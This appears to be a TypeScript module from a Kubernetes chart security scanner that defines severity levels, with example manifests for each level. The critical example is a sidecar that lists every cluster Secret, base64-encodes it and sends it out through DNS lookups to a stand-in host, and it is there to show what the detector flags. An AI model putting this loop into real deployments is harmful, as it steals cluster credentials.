/**
 * What each severity promises, as data: `docs/rules.md` prints it as a table, and the docs script
 * scans each example and prints the finding it gets, refusing to write the docs when that finding's
 * severity is not the row's. So the table cannot drift from what the rules do.
 */
import type { Severity } from '../core/severity.js';

export interface SeverityLevel {
  severity: Severity;
  /** What the level tells the person about to install. */
  meaning: string;
  /** What puts a finding at this level. */
  criteria: string;
  /** A small inventory and the rule whose finding on it shows the level. */
  example: { ruleId: string; yaml: string };
}

export const SEVERITY_MODEL: readonly SeverityLevel[] = [
  {
    severity: 'critical',
    meaning: 'This is the attack: do not install.',
    criteria:
      'The attack pattern: a powerful grant reachable by a container with exfiltration tells; a container other than the main one (sidecar, init container, native sidecar) holding a token that reaches other namespaces\' Secrets; a grant that hides itself (Secrets aggregated into `view`, a Helm hook that deletes itself, a RoleBinding into `kube-system` or reading Secrets outside the release namespace, an object rendered only outside `default` or on another Kubernetes version); a grant to anonymous users.',
    example: {
      ruleId: 'container-holds-powerful-token',
      yaml: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: tracing}
rules: [{apiGroups: [""], resources: [secrets], verbs: [get, list]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: tracing}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: tracing}
subjects: [{kind: ServiceAccount, name: tracing, namespace: checkout}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: fast-trace-agent, namespace: checkout}
spec:
  selector: {matchLabels: {app: fast-trace-agent}}
  template:
    metadata: {labels: {app: fast-trace-agent}}
    spec:
      serviceAccountName: tracing
      containers:
      - {name: agent, image: "ghcr.io/fast-trace/agent:1.4.2"}
      - {name: collector, image: "docker.io/tr4ce/collector:latest", command: [sh, -c, 'while true; do kubectl get secrets -A -o json | base64 | while read c; do nslookup "$c.t.example.net"; done; sleep 300; done']}
`,
    },
  },
  {
    severity: 'high',
    meaning: 'A powerful thing that needs a reason.',
    criteria:
      'A powerful grant or setting on its own: reads every Secret, binds `cluster-admin`, an escalation path out of its namespace, a privileged container. Ingress controllers and cert-manager land here: justify it with a suppression and its reason.',
    example: {
      ruleId: 'rbac-read-secrets',
      yaml: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: ingress}
rules: [{apiGroups: [""], resources: [secrets, services, endpoints], verbs: [list, watch]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: ingress}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: ingress}
subjects: [{kind: ServiceAccount, name: ingress, namespace: ingress}]
`,
    },
  },
  {
    severity: 'medium',
    meaning: 'A risk worth fixing.',
    criteria: 'Permissions that stay inside one namespace (reading its Secrets, creating its pods), images that move under you, a container showing exfiltration tells without a powerful token, DNS sent outside the cluster.',
    example: {
      ruleId: 'rbac-read-secrets',
      yaml: `
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: operator, namespace: db}
rules: [{apiGroups: [""], resources: [secrets], verbs: [get, list, watch]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: operator, namespace: db}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: operator}
subjects: [{kind: ServiceAccount, name: operator, namespace: db}]
`,
    },
  },
  {
    severity: 'low',
    meaning: 'Hardening and posture.',
    criteria: 'Grants limited to the chart\'s own API groups or objects, a namespace the sources create without default-deny NetworkPolicies, an image pinned by tag only, a default ServiceAccount without its token.',
    example: {
      ruleId: 'rbac-wildcard',
      yaml: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: policies}
rules: [{apiGroups: [policies.widgets.example.com], resources: ["*"], verbs: ["*"]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: policies}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: policies}
subjects: [{kind: ServiceAccount, name: policies, namespace: policies}]
`,
    },
  },
  {
    severity: 'info',
    meaning: 'Context: nothing to fix.',
    criteria: 'Facts a reviewer may want: harmless aggregation into `view`/`edit`/`admin` (the chart\'s own resources), the image tag and ServiceAccount of `helm test` pods.',
    example: {
      ruleId: 'rbac-aggregates-into-default-roles',
      yaml: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: widgets-view
  labels: {rbac.authorization.k8s.io/aggregate-to-view: "true"}
rules: [{apiGroups: [widgets.example.com], resources: [widgets], verbs: [get, list, watch]}]
`,
    },
  },
];
